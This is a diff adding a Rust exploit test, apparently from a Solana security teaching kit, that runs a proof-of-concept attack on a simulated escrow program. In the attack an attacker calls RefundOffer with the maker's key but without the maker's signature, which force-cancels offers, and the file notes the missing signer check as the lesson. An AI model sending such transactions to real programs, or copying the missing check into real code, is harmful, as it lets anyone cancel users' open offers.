@@ -0,0 +1,134 @@
+// Exploit: Unauthorized Refund (Missing Maker Signer Check)
+//
+// Vulnerability: RefundOffer does not verify that the maker signed the transaction.
+// Attack: Attacker calls RefundOffer with the proposer's pubkey as maker, without the proposer signing.
+// Result: The proposer's offer is cancelled and closed without their authorization.
+//
+// The refunded tokens still land in the proposer's ATA (the offer state pins the maker),
+// so the attacker cannot steal Token A. The damage is griefing: any open offer can be
+// force-cancelled, e.g. by front-running a taker who is about to fill it.
+
+mod utils;
+
+use utils::*;
+
+use litesvm::types::TransactionResult;
+use litesvm_token::{
+    spl_token::state::Account as TokenAccount,
+    get_spl_account,
+};
+use solana_sdk::{
+    instruction::{AccountMeta, Instruction},
+    native_token::LAMPORTS_PER_SOL,
+    signature::{Keypair, Signer},
+    transaction::Transaction,
+};
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
+use solana_system_interface::program::ID as SYSTEM_PROGRAM_ID;
+
+struct UnauthorizedRefund;
+
+struct RefundState {
+    scenario: EscrowScenario,
+    attacker: Keypair,
+}
+
+impl ExploitScenario for UnauthorizedRefund {
+    type State = RefundState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V004",
+            title: "Unauthorized Refund - Missing Maker Signer Check",
+            severity: Severity::Critical,
+            lesson: "Require maker.is_signer() before refunding and closing an offer",
+        }
+    }
+
+    fn setup(&self) -> RefundState {
+        println!("[Scenario] Attacker cancels the proposer's offer without the proposer signing");
+
+        let mut scenario = setup_escrow_scenario();
+        let attacker = create_funded_account(&mut scenario.svm, 5 * LAMPORTS_PER_SOL);
+
+        println!("[Setup] Proposer: {}", scenario.proposer.pubkey());
+        println!("[Setup] Attacker: {}", attacker.pubkey());
+
+        // Create the offer first (legitimate)
+        create_offer(
+            &mut scenario.svm,
+            &scenario.proposer,
+            &scenario.mint_a,
+            &scenario.mint_b,
+            &scenario.proposer_ata_a,
+            &scenario.offer_pda,
+            &scenario.vault_ata,
+            scenario.offer_id,
+            scenario.bump,
+        );
+
+        let vault_balance: TokenAccount = get_spl_account(&scenario.svm, &scenario.vault_ata)
+            .expect("Vault should exist");
+        println!("[Setup] Offer created, vault Token A balance: {}", vault_balance.amount);
+
+        RefundState { scenario, attacker }
+    }
+
+    fn exploit(&self, state: &mut RefundState) -> TransactionResult {
+        let scenario = &mut state.scenario;
+
+        // CRITICAL: proposer.pubkey() is passed as maker, but is_signer = false
+        // In a secure program, this would be rejected because maker must sign
+        let refund_ix = Instruction {
+            program_id: PROGRAM_ID,
+            accounts: vec![
+                AccountMeta::new(scenario.proposer.pubkey(), false), // EXPLOIT: proposer as maker, not signing
+                AccountMeta::new_readonly(scenario.mint_a, false),
+                AccountMeta::new(scenario.proposer_ata_a, false),
+                AccountMeta::new(scenario.offer_pda, false),
+                AccountMeta::new(scenario.vault_ata, false),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+                AccountMeta::new_readonly(SYSTEM_PROGRAM_ID, false),
+            ],
+            data: build_refund_offer_data(),
+        };
+
+        // Attacker signs and pays, proposer does NOT sign
+        let tx = Transaction::new_signed_with_payer(
+            &[refund_ix],
+            Some(&state.attacker.pubkey()),
+            &[&state.attacker],
+            scenario.svm.latest_blockhash(),
+        );
+
+        println!("[Attack] Sending RefundOffer - attacker signs, proposer does NOT sign");
+
+        // The vault transfer and close are signed by the offer PDA, not the maker,
+        // so nothing downstream catches the missing signature
+        scenario.svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, state: &mut RefundState) -> u64 {
+        let scenario = &state.scenario;
+        println!("[VULNERABLE] Transaction accepted by escrow program!");
+
+        let offer_account = scenario.svm.get_account(&scenario.offer_pda);
+        let offer_closed = offer_account.is_none() || offer_account.unwrap().data.is_empty();
+        assert!(offer_closed, "Offer should have been closed by the attacker");
+        println!("[Result] Offer PDA closed without the proposer's consent");
+
+        let proposer_balance: TokenAccount = get_spl_account(&scenario.svm, &scenario.proposer_ata_a)
+            .expect("Proposer ATA A should exist");
+        println!("[Result] Proposer Token A: {} (returned, offer no longer fillable)", proposer_balance.amount);
+
+        println!("[EXPLOIT SUCCESS] Anyone can cancel any open offer!");
+
+        // Token A goes back to the maker: griefing, nothing stolen
+        0
+    }
+}
+
+#[test]
+fn test_exploit_unauthorized_refund() {
+    run_exploit(&UnauthorizedRefund);
+}